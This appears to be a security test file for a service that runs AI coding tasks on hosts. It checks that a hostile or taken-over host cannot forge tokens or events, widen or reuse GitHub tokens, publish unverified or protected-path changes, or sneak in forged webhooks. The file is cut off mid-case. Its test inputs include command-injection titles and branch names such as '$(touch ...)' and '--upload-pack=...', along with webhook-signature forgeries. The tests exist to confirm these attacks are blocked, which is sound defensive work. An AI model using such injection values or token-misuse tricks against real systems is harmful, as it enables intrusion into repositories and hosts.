import { execFile } from 'node:child_process';
import { createHmac, randomUUID, sign } from 'node:crypto';
import { existsSync } from 'node:fs';
import path from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import { promisify } from 'node:util';
import { Queue } from 'bullmq';
import { redisOptions } from '../../src/queue/connection.ts';
import { QUEUE_NAME } from '../../src/queue/wake.ts';
import { ClaimAnswer, GrantAnswer } from '../../src/task/protocol.ts';
import { eventsOf, HUMAN, type Outcome } from '../e2e/way.ts';
import type { ForgeState } from '../forge/forge.ts';
import { PERSON } from '../git/repositories.ts';
import type { EscapeCase, Observation } from './cases.ts';
import type { Answer, ControlTarget, Held, HostVerb } from './control-rig.ts';
import { RULE_CASES } from './control-rules.ts';

type Case = EscapeCase<ControlTarget>;
const run = promisify(execFile);

const isClaimed = ({ text }: Answer): boolean => ClaimAnswer.safeParse(JSON.parse(text)).data?.claim === 'granted';
const short = ({ status, text }: Answer): string => `${status} ${text.slice(0, 120)}`;

/** Kept for the cases that need two attempts at once, made when first asked for. */
const shared = new WeakMap<ControlTarget, Promise<{ ours: Held; theirs: Held }>>();
function pair(target: ControlTarget) {
  const made = shared.get(target) ?? both(target);
  shared.set(target, made);
  return made;
}
async function both(target: ControlTarget) {
  const [ours, theirs] = await Promise.all([target.hold('ours'), target.hold('theirs')]);
  return { ours, theirs };
}
const beat = { events: [] };

// ── Row 60: a host that was taken over ──────────────────────────────────────────────────────────────────────────────

const ofHosts: readonly Case[] = [
  ...(['nothing', 'another word', 'the fencing token of an attempt'] as const).map(
    (what): Case => ({
      row: 60,
      name: `a claim with ${what} for the host key`,
      attempt: 'a process that is no host claims a waiting attempt',
      expected: '401; the host’s own claim is granted afterwards',
      async run(target) {
        const { ours } = await pair(target);
        const running = await target.way.begin({ title: 'waiting', files: { 'a.txt': 'a\n' } });
        const key = {
          nothing: '',
          'another word': 'host-key-0123456789abcdef0123456789ab',
          'the fencing token of an attempt': ours.token,
        };
        const answer = await target.claim(running.task, 1, key[what]);
        const held = await target.claimed(running);
        const events = await target.call('events', held.token, beat);
        await target.end(held);
        const control = { worked: events.status === 200, how: `the right key: granted, ${events.status}` };
        return { held: answer.status === 401, seen: short(answer), control };
      },
    }),
  ),
  ...(['an attempt that another host holds', 'an attempt that is yet to come', 'a task that nobody made'] as const).map(
    (what): Case => ({
      row: 60,
      name: `a claim of ${what}`,
      attempt: 'a host with the right key asks for work that is not waiting',
      expected: 'nothing to do; who holds the attempt goes on',
      async run(target) {
        const { theirs } = await pair(target);
        const asked = {
          'an attempt that another host holds': [theirs.running.task, 1],
          'an attempt that is yet to come': [theirs.running.task, 2],
          'a task that nobody made': [theirs.running.task.replace(/.{4}$/, 'zzzz'), 1],
        } as const;
        const [task, number] = asked[what];
        const answer = await target.claim(task, number, target.hostKey, 'host-b');
        const goesOn = await target.call('events', theirs.token, beat);
        const control = { worked: goesOn.status === 200, how: `its holder: ${goesOn.status}` };
        return { held: answer.status === 200 && !isClaimed(answer), seen: short(answer), control };
      },
    }),
  ),
  ...(['events', 'grant', 'change', 'finish'] as const).map(
    (verb): Case => ({
      row: 60,
      name: `${verb} with a made-up token, and with the host key`,
      attempt: `${verb} for an attempt without its fencing token`,
      expected: '409 fenced, and the attempt is as it was',
      async run(target) {
        const { ours } = await pair(target);
        const handed = target.change(ours, { 'evil.txt': 'x\n' });
        const bodies: Record<Exclude<HostVerb, 'claim'>, unknown> = {
          events: { events: [{ seq: 0, at: new Date().toISOString(), type: 'output', text: 'forged' }] },
          grant: { grant: 'repository_read' },
          change: handed.bundle,
          finish: target.finishing(handed),
        };
        const answers = await Promise.all(
          [`cca_${'x'.repeat(43)}`, target.hostKey].map((token) => target.call(verb, token, bodies[verb])),
        );
        const own = await target.call('events', ours.token, beat);
        return {
          held: answers.every(({ status, text }) => status === 409 && text.includes('fenced')),
          seen: answers.map(short).join('; '),
          control: { worked: own.status === 200, how: `with its own token: ${own.status}` },
        };
      },
    }),
  ),
  {
    row: 60,
    name: 'finishing twice, and everything else after the end',
    attempt: 'a host goes on with a token whose attempt was handed over',
    expected: '409 fenced for each, one end',
    async run(target) {
      const held = await target.hold('twice');
      const before = await target.call('events', held.token, beat);
      const key = await target.grant(held, { grant: 'model' });
      const outcome = await target.end(held);
      const handed = target.change(held, { 'late.txt': 'x\n' });
      const answers = await Promise.all([
        target.call('finish', held.token, target.finishing(handed)),
        target.call('change', held.token, handed.bundle),
        target.call('grant', held.token, { grant: 'repository_read' }),
        target.call('events', held.token, beat),
      ]);
      const model = await fetch(`${target.way.url}/model/v1/messages`, {
        method: 'POST',
        headers: { 'x-api-key': key.grant === 'model' ? key.key : '', 'content-type': 'application/json' },
        body: JSON.stringify({ model: 'm', max_tokens: 1, messages: [] }),
      });
      await model.text();
      const again = await target.claim(held.running.task);
      const fenced = answers.every(({ status }) => status === 409);
      return {
        held: fenced && model.status === 401 && !isClaimed(again) && outcome.end.task.state === 'failed',
        seen: `${answers.map(({ status }) => status).join(' ')}, the model key ${model.status}, the claim ${short(again)}`,
        control: { worked: before.status === 200, how: `before the end: ${before.status}` },
      };
    },
  },
  ...[
    'credential.minted',
    'credential.revoked',
    'branch.pushed',
    'pull_request',
    'commit.made',
    'attempt.ended',
    'quarantine.checked',
    'model.call',
    'stop.asked',
    'task.accepted',
  ].map(
    (type): Case => ({
      row: 60,
      name: `an event of the control plane’s own: ${type}`,
      attempt: `a host reports ${type}`,
      expected: '400, and nothing of it in the record',
      async run(target) {
        const { ours } = await pair(target);
        return inTurn(ours, async () => {
          const at = new Date().toISOString();
          const real = eventsOf(
            (await ownEvents(target, ours)).map((event) => event),
            'attempt.claimed',
          ).length;
          const seq = nextSeq(ours);
          const forged = {
            seq,
            at,
            type,
            id: 'x',
            gone: true,
            sha: 'a'.repeat(40),
            branch: 'b',
            number: 1,
            url: 'https://x.test/',
            by: 'x',
          };
          const answer = await target.call('events', ours.token, { events: [forged] });
          const good = await target.call('events', ours.token, { events: [{ seq, at, type: 'output', text: `fine ${type}\n` }] });
          const events = await ownEvents(target, ours);
          const forgedThere = events.some(
            ({ event }) =>
              event.type === type && event.type !== 'task.accepted' && real === 1 && JSON.stringify(event).includes('"x"'),
          );
          return {
            held: answer.status === 400 && !forgedThere,
            seen: short(answer),
            control: {
              worked: good.status === 200 && JSON.stringify(events).includes(`fine ${type}`),
              how: `an event of a host’s own at the same place: ${good.status}`,
            },
          };
        });
      },
    }),
  ),
  {
    row: 60,
    name: 'a write token',
    attempt: 'a host asks for repository_write',
    expected: '400; no write token is ever made for a host',
    async run(target) {
      const { ours } = await pair(target);
      const answer = await target.call('grant', ours.token, { grant: 'repository_write' });
      const read = await target.grant(ours);
      const { tokens } = await target.forge.state();
      const name = ours.running.repository;
      const writing = tokens.filter(
        ({ repositories, permissions }) => repositories?.includes(name) && permissions['contents'] === 'write',
      );
      return {
        held: answer.status === 400 && writing.length === 0,
        seen: `${short(answer)}; ${writing.length} write tokens`,
        control: { worked: read.grant === 'repository_read', how: 'a read token is given' },
      };
    },
  },
  ...(['by its name', 'by a rule that is not in the work order'] as const).map(
    (what): Case => ({
      row: 60,
      name: `a read token for another repository, ${what}`,
      attempt: 'a host asks for the repository of another task',
      expected: 'refused; every token of the task is for its own repository',
      async run(target) {
        const { ours, theirs } = await pair(target);
        const [at, other] = [ours.running.repository, theirs.running.repository];
        const more = what === 'by its name' ? { repository: other } : { rule: other };
        const answer = await target.call('grant', ours.token, { grant: 'repository_read', ...more });
        const read = await target.grant(ours);
        const { tokens } = await target.forge.state();
        const given = GrantAnswer.safeParse(JSON.parse(answer.text)).data;
        const wide = tokens.filter(
          ({ token, repositories, permissions }) =>
            'contents' in permissions && repositories?.length !== 1 && !ownMints.has(token),
        );
        return {
          held: given === undefined && wide.length === 0,
          seen: `${short(answer)}; ${wide.length} tokens for more than one repository`,
          control: { worked: read.grant === 'repository_read' && read.url.includes(at), how: 'its own is given' },
        };
      },
    }),
  ),
  ...(['read another repository', 'push', 'write through the API'] as const).map(
    (what): Case => ({
      row: 60,
      name: `its read token is used to ${what}`,
      attempt: `a host takes the token it was given and tries to ${what}`,
      expected: 'GitHub refuses; the task’s own repository can be read with it',
      async run(target) {
        const { ours, theirs } = await pair(target);
        const read = await target.grant(ours);
        if (read.grant !== 'repository_read') throw new Error('another grant');
        const authorization = `Basic ${Buffer.from(`x-access-token:${read.token}`).toString('base64')}`;
        const git = (...args: string[]) =>
          run('git', ['-c', `http.extraHeader=Authorization: ${authorization}`, ...args], {
            env: { ...PERSON, GIT_TERMINAL_PROMPT: '0' },
          }).then(
            ({ stdout }) => `0 ${stdout.slice(0, 60)}`,
            (error: { code?: number; stderr?: string }) => `${error.code} ${error.stderr?.trim()}`,
          );
        const control = await git('ls-remote', read.url);
        const attempts = {
          'read another repository': () => git('ls-remote', read.url.replace(ours.running.repository, theirs.running.repository)),
          push: () => git(`--git-dir=${gitDirectory(target, ours)}`, 'push', read.url, 'HEAD:refs/heads/evil'),
          'write through the API': async () => {
            const url = `${target.forge.api}/repos/${ours.running.repository}/issues`;
            const headers = { authorization: `Bearer ${read.token}`, 'content-type': 'application/json' };
            const response = await fetch(url, { method: 'POST', headers, body: '{"title":"x"}' });
            return `${response.status} ${(await response.text()).slice(0, 80)}`;
          },
        };
        const seen = await attempts[what]();
        return { held: !/^(?:0|20\d) /.test(seen), seen, control: { worked: control.startsWith('0 '), how: control } };
      },
    }),
  ),
  {
    row: 60,
    name: 'a change for another attempt',
    attempt: 'a host uploads with its own token and another attempt is finished with that upload',
    expected: 'the other attempt has no change of its own and publishes nothing',
    async run(target) {
      const [mine, other] = await Promise.all([target.hold('mine'), target.hold('other')]);
      const handed = target.change(mine, { 'evil.txt': 'x\n' });
      const upload = await target.call('change', mine.token, handed.bundle);
      await target.call('finish', other.token, target.finishing(handed));
      target.forget(other);
      const ended = await other.running.outcome;
      const outcome = await target.handOver(mine, handed);
      return {
        held: ended.pull === undefined && published(ended) === 0,
        seen: `${ended.end.task.state}: ${ended.end.task.message.slice(0, 100)}`,
        control: {
          worked: upload.status === 200 && outcome.pull !== undefined,
          how: `its own attempt: ${outcome.end.task.state}`,
        },
      };
    },
  },
  {
    row: 60,
    name: 'a verdict about another tree',
    attempt: 'a host says that a harmless tree passed and uploads another',
    expected: 'refused: what is published is the tree that was verified',
    async run(target) {
      const held = await target.hold('swapped');
      const [good, evil] = [target.change(held, { 'good.txt': 'x\n' }), target.change(held, { 'evil.txt': 'x\n' })];
      const outcome = await target.handOver(held, { bundle: evil.bundle, tree: good.tree });
      return { ...unpublished(outcome, /wrong tree/), control: await honest(target) };
    },
  },
  {
    row: 60,
    name: 'a change on another base',
    attempt: 'a host hands over a commit whose parent is not the pinned base',
    expected: 'refused',
    async run(target) {
      const held = await target.hold('elsewhere');
      const handed = target.change(held, { 'x.txt': 'x\n' }, { parent: '1'.repeat(40) });
      return {
        ...unpublished(await target.handOver(held, handed), /wrong history|wrong base|unreadable|hostile/),
        control: await honest(target),
      };
    },
  },
  {
    row: 60,
    name: 'a workflow file that the host says is verified',
    attempt: 'a host hands over a change to what runs with the owner’s rights',
    expected: 'not published, whatever the host says of it',
    async run(target) {
      const held = await target.hold('workflow');
      const handed = target.change(held, { CODEOWNERS: '* @mallory\n' });
      return { ...unpublished(await target.handOver(held, handed), /protected path/i), control: await honest(target) };
    },
  },
  {
    row: 60,
    name: 'reported events are written over',
    attempt: 'a host sends another event under a number that is stored',
    expected: 'the first stays, the chain is whole',
    async run(target) {
      const held = await target.hold('overwritten');
      const at = new Date().toISOString();
      const say = (text: string) => target.call('events', held.token, { events: [{ seq: 0, at, type: 'output', text }] });
      const first = await say('the first\n');
      await say('another\n');
      const { events } = await target.end(held);
      const texts = eventsOf(events, 'output').map(({ text }) => text);
      return {
        held: texts.join() === 'the first\n',
        seen: JSON.stringify(texts),
        control: { worked: first.status === 200, how: `the first is taken: ${first.status}` },
      };
    },
  },
];

/** Cases that report events of the same attempt, one after the other. */
const turns = new WeakMap<Held, Promise<unknown>>();
function inTurn<T>(held: Held, work: () => Promise<T>): Promise<T> {
  const turn = (turns.get(held) ?? Promise.resolve()).then(work);
  turns.set(
    held,
    turn.catch(() => {}),
  );
  return turn;
}

const sequences = new WeakMap<Held, number>();
function nextSeq(held: Held): number {
  const next = sequences.get(held) ?? 0;
  sequences.set(held, next + 1);
  return next;
}

/** What is recorded of an attempt that runs. */
async function ownEvents({ deployment }: ControlTarget, { running }: Held) {
  const database = new DatabaseSync(path.join(deployment.dataDirectory, 'coatcheck.sqlite'), { readOnly: true });
  const rows = database.prepare('SELECT line FROM events WHERE task = ? ORDER BY seq').all(running.task);
  database.close();
  return rows.map((row) => JSON.parse(String(row['line'])));
}

const gitDirectory = ({ deployment }: ControlTarget, { work }: Held): string =>
  path.join(path.dirname(deployment.dataDirectory), 'forge/repositories', `${work.repository.id}.git`);

/** Branches of the task's repository beside its own. */
const published = ({ state, repository }: Outcome): number =>
  Object.keys(state.repositories.find(({ fullName }) => fullName === repository)?.refs ?? {}).filter(
    (ref) => ref.startsWith('refs/heads/') && ref !== 'refs/heads/main',
  ).length;

function unpublished(outcome: Outcome, why: RegExp): Pick<Observation, 'held' | 'seen'> {
  const { state, message } = outcome.end.task;
  const nothing = outcome.pull === undefined && published(outcome) === 0;
  return { held: nothing && why.test(message), seen: `${state}: ${message.trim().slice(0, 200)}` };
}

/** An honest change of the same kind is published; once for all. */
const honestly = new WeakMap<ControlTarget, Promise<Outcome>>();
async function honest(target: ControlTarget): Promise<Observation['control']> {
  const made =
    honestly.get(target) ?? target.hold('honest').then((held) => target.handOver(held, target.change(held, { 'x.txt': 'x\n' })));
  honestly.set(target, made);
  const outcome = await made;
  return { worked: outcome.pull !== undefined && published(outcome) === 1, how: `an honest change: ${outcome.end.task.state}` };
}

const deleted: Case = {
  row: 60,
  name: 'jobs that are deleted from Redis',
  attempt: 'the queue is emptied while a task waits',
  expected: 'the control plane wakes a host again by itself',
  async run(target) {
    const running = await target.way.begin({ title: 'deleted', files: { 'a.txt': 'a\n' } });
    await running.event('policy.resolved');
    const url = `unix://${path.join(target.deployment.dataDirectory, 'redis/redis.sock')}`;
    const queue = new Queue(QUEUE_NAME, { connection: redisOptions(url) });
    try {
      const there = () => queue.getJob(`${running.task}-1`).then((job) => job !== undefined);
      const before = await waitUntil(there);
      await queue.obliterate({ force: true });
      const emptied = !(await there());
      const again = await waitUntil(there);
      await target.end(await target.claimed(running));
      return {
        held: again,
        seen: again ? 'woken again' : 'never woken again',
        control: { worked: before && emptied, how: 'it was there, and then it was not' },
      };
    } finally {
      await queue.close();
    }
  },
};

async function waitUntil(holds: () => Promise<boolean>): Promise<boolean> {
  for (const until = performance.now() + 15_000; performance.now() < until; ) {
    if (await holds()) return true;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  return false;
}

// ── Row 45: tokens ──────────────────────────────────────────────────────────────────────────────────────────────────

const MINT = 'POST /app/installations/{installation_id}/access_tokens';
const LEAST: readonly object[] = [
  { contents: 'read' },
  { contents: 'read', metadata: 'read' },
  { contents: 'write' },
  { metadata: 'read', contents: 'read', issues: 'write', pull_requests: 'write', checks: 'write' },
];

const scope: Case = {
  row: 45,
  name: 'what is asked of GitHub for each token',
  attempt: 'a token could be for all repositories, or for all that the App may',
  expected: 'every request names one repository and the least permissions',
  async run(target) {
    await honest(target);
    const { requests, installations } = await target.forge.state();
    const asked = requests.filter(({ operation }) => operation === MINT).map(({ body }) => body as Record<string, unknown>);
    const wide = asked.filter(({ repository_ids: ids, repositories, permissions }) => {
      const named = [ids, repositories].flatMap((list) => (Array.isArray(list) ? list : []));
      // By which the App finds out who it is; nothing of any repository can be read with it.
      const nobodys = named.length === 0 && same({ metadata: 'read' }, permissions);
      return !nobodys && !(named.length === 1 && LEAST.some((least) => same(least, permissions)));
    });
    const all = await unscoped(target, installations[0]?.id ?? 0);
    return {
      held: asked.length > 3 && wide.length === 0,
      seen: `${asked.length} requests, ${wide.length} wider: ${JSON.stringify(wide.slice(0, 2))}`,
      control: { worked: all, how: 'GitHub gives a token for everything to who asks for no less' },
    };
  },
};
const same = (a: object, b: unknown): boolean =>
  JSON.stringify(Object.entries(a).sort()) === JSON.stringify(Object.entries(b as object).sort());

/** Asks GitHub, as the App, for a token without a limit. */
const ownMints = new Set<string>();
async function unscoped({ forge, deployment }: ControlTarget, installation: number): Promise<boolean> {
  const now = Math.floor(Date.now() / 1000);
  const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const head = `${part({ alg: 'RS256', typ: 'JWT' })}.${part({ iat: now - 10, exp: now + 300, iss: deployment.app.appId })}`;
  const jwt = `${head}.${sign('RSA-SHA256', Buffer.from(head), deployment.app.privateKey).toString('base64url')}`;
  const url = `${forge.api}/app/installations/${installation}/access_tokens`;
  const response = await fetch(url, { method: 'POST', headers: { authorization: `Bearer ${jwt}` } });
  const { token } = (await response.json()) as { token: string };
  ownMints.add(token);
  const { tokens } = await forge.state();
  // Not left alive: it is nobody's.
  await fetch(`${forge.api}/installation/token`, { method: 'DELETE', headers: { authorization: `Bearer ${token}` } });
  return tokens.some((known) => known.token === token && known.repositories === null);
}

interface Exit {
  readonly name: string;
  readonly state: string;
  readonly leave: (target: ControlTarget, held: Held) => Promise<Outcome>;
}

const EXITS: readonly Exit[] = [
  { name: 'success', state: 'ready', leave: (t, held) => t.handOver(held, t.change(held, { 'x.txt': 'x\n' })) },
  {
    name: 'a refusal',
    state: 'refused',
    leave: (t, held) => t.handOver(held, { ...t.change(held, { 'x.txt': 'x\n' }), tree: '1'.repeat(40) }),
  },
  { name: 'a failure', state: 'failed', leave: (t, held) => t.end(held, 'model_unavailable') },
  {
    name: 'no change',
    state: 'no_change',
    leave: async (t, held) => {
      const outcome = { outcome: 'no_change', summary: { title: '', body: '' } };
      await t.call('finish', held.token, { cleanup: { looked: [] }, plan: null, outcome });
      t.forget(held);
      return held.running.outcome;
    },
  },
  {
    name: 'a stop',
    state: 'cancelled',
    leave: async (t, held) => {
      const { repository, number } = held.running;
      await t.forge.comment({ repository, number, as: HUMAN, body: '/coatcheck stop' });
      await waitUntil(async () => (await t.call('events', held.token, beat)).text.includes('"stopped"'));
      return t.end(held, 'stopped');
    },
  },
  {
    name: 'a host that died',
    state: 'failed',
    leave: async (t, held) => {
      t.forget(held);
      await held.running.event('attempt.lost');
      return t.end(await t.claimed(held.running, 2));
    },
  },
];

const exits = EXITS.map(
  ({ name, state, leave }): Case => ({
    row: 45,
    name: `revoked after ${name}`,
    attempt: `a host keeps the read token of an attempt that ended by ${name}`,
    expected: 'GitHub knows it no more, nor any other token for git of the task',
    async run(target) {
      const held = await target.hold(`exit by ${name}`);
      const read = await target.grant(held);
      if (read.grant !== 'repository_read') throw new Error('another grant');
      const ask = () =>
        fetch(`${target.forge.api}/repos/${held.running.repository}/git/ref/heads/main`, {
          headers: { authorization: `Bearer ${read.token}` },
        }).then(({ status }) => status);
      const before = await ask();
      const outcome = await leave(target, held);
      const after = await ask();
      const live = tokensOf(outcome.state, held).filter((token) => token.state === 'live');
      return {
        held: outcome.end.task.state === state && after === 401 && live.length === 0,
        seen: `${outcome.end.task.state}; the token ${after}; ${live.length} alive`,
        control: { worked: before === 200, how: `while the attempt ran: ${before}` },
      };
    },
  }),
);

/** Tokens for git that were made for a task's repository. */
const tokensOf = ({ tokens }: ForgeState, { running }: Held) =>
  tokens.filter(
    ({ repositories, permissions }) =>
      repositories?.includes(running.repository) &&
      Object.keys(permissions).every((name) => name === 'contents' || name === 'metadata'),
  );

const expiring: Case = {
  row: 45,
  alone: true,
  name: 'tokens that expire after 60 seconds, and at once',
  attempt: 'GitHub’s tokens end in the middle of the run',
  expected: 'others are made in their place, and the task goes its way',
  async run(target) {
    const { id } = await target.forge.misbehave({ times: 1000, action: { do: 'short_token', lifeMs: 60_000 } });
    const held = await target.hold('expiring');
    await target.forge.release(id);
    // The host's own, gone before it is used: the next is another.
    const gone = await target.forge.misbehave({ times: 1, action: { do: 'short_token', lifeMs: 1 } });
    const [first, second] = [await target.grant(held), await target.grant(held)];
    await target.forge.release(gone.id);
    if (first.grant !== 'repository_read' || second.grant !== 'repository_read') throw new Error('another grant');
    const use = (token: string) =>
      fetch(`${target.forge.api}/repos/${held.running.repository}/git/ref/heads/main`, {
        headers: { authorization: `Bearer ${token}` },
      });
    const [expired, renewed] = [await use(first.token), await use(second.token)];
    const more = await target.forge.misbehave({ times: 1000, action: { do: 'short_token', lifeMs: 60_000 } });
    const outcome = await target.handOver(held, target.change(held, { 'x.txt': 'x\n' }));
    await target.forge.release(more.id);
    const minted = outcome.state.tokens.filter(({ repositories }) => repositories?.includes(held.running.repository));
    const brief = minted.filter(({ createdAt, expiresAt }) => expiresAt - createdAt <= 60_000);
    return {
      held: outcome.end.task.state === 'ready' && renewed.status === 200,
      seen: `${outcome.end.task.state} with ${minted.length} tokens, ${brief.length} of at most 60 s`,
      control: { worked: expired.status === 401 && brief.length > 2, how: `the expired one: ${expired.status}` },
    };
  },
};

// ── Row 46: webhooks ────────────────────────────────────────────────────────────────────────────────────────────────

interface Delivered {
  readonly name: string;
  readonly status: number;
  readonly headers?: (target: ControlTarget, body: string) => Record<string, string | null>;
  readonly body?: (signed: string) => string;
}

const hmac = (algorithm: string, secret: string, body: string) =>
  `${algorithm}=${createHmac(algorithm, secret).update(body).digest('hex')}`;

const DELIVERIES: readonly Delivered[] = [
  {
    name: 'a signature by another secret',
    status: 401,
    headers: (_, body) => ({ 'x-hub-signature-256': hmac('sha256', 'another secret', body) }),
  },
  {
    name: 'a signature by Probot’s own default',
    status: 401,
    headers: (_, body) => ({ 'x-hub-signature-256': hmac('sha256', 'development', body) }),
  },
  { name: 'no signature', status: 401, headers: () => ({ 'x-hub-signature-256': null }) },
  {
    name: 'a SHA-1 signature alone',
    status: 401,
    headers: ({ deployment }, body) => ({
      'x-hub-signature-256': null,
      'x-hub-signature': hmac('sha1', deployment.webhookSecret, body),
    }),
  },
  {
    name: 'a SHA-1 digest under the name of SHA-256',
    status: 401,
    headers: ({ deployment }, body) => ({
      'x-hub-signature-256': hmac('sha1', deployment.webhookSecret, body).replace('sha1', 'sha256'),
    }),
  },
  {
    name: 'a body that was changed after it was signed',
    status: 401,
    body: (signed) => signed.replace('"labeled"', '"labeled" '),
  },
  {
    name: 'another sender put in after it was signed',
    status: 401,
    body: (signed) => signed.replace(/"sender":\{[^}]*\}/, '"sender":{"id":1,"login":"root","type":"User"}'),
  },
  { name: 'a body over size', status: 413, body: (signed) => signed.padEnd(26 << 20, ' ') },
  {
    name: 'a form',
    status: 415,
    headers: () => ({ 'content-type': 'application/x-www-form-urlencoded' }),
    body: (signed) => `payload=${encodeURIComponent(signed)}`,
  },
  { name: 'no delivery id', status: 400, headers: () => ({ 'x-github-delivery': null }) },
  { name: 'a compressed body', status: 415, headers: () => ({ 'content-encoding': 'gzip' }) },
];

async function labelled({ way, forge }: ControlTarget, repository: string, number: number, installationOf = repository) {
  const state = await forge.state();
  const [owner = '', name = ''] = repository.split('/');
  const known = state.repositories.find(({ fullName }) => fullName === repository);
  const ada = await forge.createUser(HUMAN);
  const sender = { id: ada.id, login: ada.login, type: 'User' };
  const account = installationOf.split('/')[0];
  return {
    action: 'labeled',
    label: { name: 'coatcheck' },
    issue: { number, title: 'x', body: '', state: 'open', user: sender },
    repository: { id: known?.id, name, owner: { login: owner }, private: true, default_branch: 'main' },
    sender,
    installation: { id: state.installations.find((one) => one.account === account)?.id },
    url: way.url,
  };
}

/** A delivery that was signed as it should be starts a task; once for all. */
const proven = new WeakMap<ControlTarget, Promise<Observation['control']>>();
function signedStarts(target: ControlTarget): Promise<Observation['control']> {
  const made =
    proven.get(target) ??
    (async () => {
      const at = await target.way.openIssue({ title: 'signed', files: { 'a.txt': 'a\n' } });
      const status = await target.deliver(await labelled(target, at.repository, at.number));
      const held = await target.claimed(await target.way.follow(at));
      await target.end(held);
      return { worked: status === 200, how: `signed as it should be: ${status}, and a task` };
    })();
  proven.set(target, made);
  return made;
}

const deliveries = DELIVERIES.map(
  ({ name, status, headers, body }): Case => ({
    row: 46,
    name,
    attempt: `a delivery that would start a task, with ${name}`,
    expected: `${status}, no task`,
    async run(target) {
      const at = await target.way.openIssue({ title: 'unsigned', files: { 'a.txt': 'a\n' } });
      const payload = await labelled(target, at.repository, at.number);
      const signed = JSON.stringify(payload);
      const answer = await target
        .deliver(payload, { ...(headers && { headers: headers(target, signed) }), ...(body && { body: body(signed) }) })
        .catch(() => 413); // cut while it was still being sent
      const control = await signedStarts(target);
      const tasks = await target.way.tasks(at);
      return { held: answer === status && tasks.length === 0, seen: `${answer}, ${tasks.length} tasks`, control };
    },
  }),
);

// ── Row 59: unknown installations ───────────────────────────────────────────────────────────────────────────────────

const STRANGER = 'stranger';
const strangers = (['the label', 'a stop', 'an assignment'] as const).map(
  (what): Case => ({
    row: 59,
    name: `${what} on an installation that the operator does not know`,
    attempt: `somebody installs the App on their own account and sends ${what}`,
    expected: 'no task, no token, no call of the model, no word',
    async run(target) {
      const { forge, way, deployment } = target;
      await forge.createUser(STRANGER);
      const known = (await forge.state()).installations.find(({ account }) => account === STRANGER);
      const installation = known?.id ?? (await forge.install({ app: deployment.app.slug, owner: STRANGER })).installationId;
      const at = await way.openIssue({
        title: 'mine',
        files: { 'a.txt': 'a\n' },
        repository: { owner: STRANGER, name: `own-${randomUUID().slice(0, 8)}` },
      });
      const payload = await labelled(target, at.repository, at.number);
      const sent = {
        'the label': { payload, event: 'issues' },
        'a stop': {
          payload: { ...payload, action: 'created', comment: { id: 1, body: '/coatcheck stop' } },
          event: 'issue_comment',
        },
        'an assignment': { payload: { ...payload, action: 'assigned', assignee: { login: HUMAN } }, event: 'issues' },
      }[what];
      const answer = await target.deliver(sent.payload, { headers: { 'x-github-event': sent.event } });
      const control = await signedStarts(target);
      const state = await forge.state();
      const tokens = state.tokens.filter((token) => token.installation === installation);
      const words = state.issues.filter(({ repository }) => repository === at.repository).flatMap(({ comments }) => comments);
      const tasks = await way.tasks(at);
      const models = await way.model.requests();
      return {
        held: tasks.length + tokens.length + words.length + models.length === 0,
        seen: `${answer}: ${tasks.length} tasks, ${tokens.length} tokens, ${words.length} comments, ${models.length} model calls`,
        control,
      };
    },
  }),
);

// ── Row 41: names ───────────────────────────────────────────────────────────────────────────────────────────────────

const MARKER = `/tmp/coatcheck-escape-${process.pid}`;
const NAMES: readonly (readonly [name: string, title: string, branch?: string])[] = [
  ['a command substitution', `$(touch ${MARKER}) \`touch ${MARKER}\``],
  ['a shell’s separators', `x; touch ${MARKER} | touch ${MARKER} && touch ${MARKER}`],
  ['an option', `--upload-pack=touch ${MARKER}`],
  ['a wide space and a turned direction', `a\u3000touch ${MARKER}\u202egnp.exe`],
  ['line ends', `x\n\nCo-authored-by: Mallory <m@m.test>\r\ntouch ${MARKER}`],
  ['a base branch of a command substitution', 'branch', `$(touch\${IFS}${MARKER.replaceAll('/', '.')})`],
  ['a base branch of a separator and a wide space', 'branch', 'a;b\u3000c'],
];

const names = NAMES.map(
  ([name, title, branch]): Case => ({
    row: 41,
    name: `${name} in ${branch === undefined ? 'the title' : 'its name'}`,
    attempt: `the issue’s ${branch === undefined ? 'title' : 'repository'} holds ${JSON.stringify(branch ?? title)}`,
    expected: 'a branch of a name that the server made; nothing is run, nothing is taken for an option',
    async run(target) {
      const repository = branch === undefined ? {} : { defaultBranch: branch };
      const held = await target.hold(title, { repository });
      const outcome = await target.handOver(held, target.change(held, { 'x.txt': 'x\n' }), title);
      const { end, state, pull } = outcome;
      const refs = Object.keys(state.repositories.find(({ fullName }) => fullName === outcome.repository)?.refs ?? {});
      const ours = refs.filter((ref) => /^refs\/heads\/coatcheck\/issue-\d+-[0-9a-z]{8}$/.test(ref));
      const message = target.git(held, 'log', '-1', '--format=%B', end.traces.commit ?? 'HEAD');
      const sprung = existsSync(MARKER);
      return {
        held:
          ours.length === 1 && !sprung && !/^Co-authored-by: Mallory/m.test(message) && pull?.pull?.base === (branch ?? 'main'),
        seen: `${end.task.state}, ${ours.join()}, ${sprung ? 'something ran' : 'nothing ran'}`,
        control: {
          worked: end.task.issue.title !== '' && end.task.state === 'ready',
          how: `the task ran with the title ${JSON.stringify(end.task.issue.title)}`,
        },
      };
    },
  }),
);

// ── Row 44: secrets in what is reported ─────────────────────────────────────────────────────────────────────────────

const letters = (length: number): string => 'aB3dE6gH9jK2mN5pQ8'.repeat(Math.ceil(length / 18)).slice(0, length);
const SECRETS: readonly (readonly [name: string, secret: string])[] = [
  ['a token of the old form', `ghs_${letters(36)}`],
  ['a token of the new form', `ghs_1234567_${letters(120)}.${letters(300)}.${letters(86)}`],
];

const splits = SECRETS.map(
  ([name, secret]): Case => ({
    row: 44,
    name: `${name}, printed in two pieces, at every place`,
    attempt: 'a command writes a secret in two writes, so that each is an event of its own',
    expected: 'the joined output in record and page does not hold it',
    async run(target) {
      const held = await target.hold(`split ${name}`);
      const at = new Date().toISOString();
      const texts = Array.from({ length: secret.length - 1 }, (_, n) => [
        `${n} ${secret.slice(0, n + 1)}`,
        `${secret.slice(n + 1)}\n`,
      ]).flat();
      const events = texts.map((text, seq) => ({ seq, at, type: 'output', text }));
      for (let from = 0; from < events.length; from += 500)
        await target.call('events', held.token, { events: events.slice(from, from + 500) });
      const outcome = await target.end(held);
      const joined = eventsOf(outcome.events, 'output')
        .map(({ text }) => text)
        .join('');
      const page = await target.way.page(outcome);
      const lines = joined.split('\n').filter((line) => line.includes('[redacted'));
      const tail = secret.slice(-20);
      return {
        held:
          !joined.includes(secret) &&
          !page.includes(secret) &&
          !joined.includes(`${tail}\n`) &&
          lines.length === secret.length - 1,
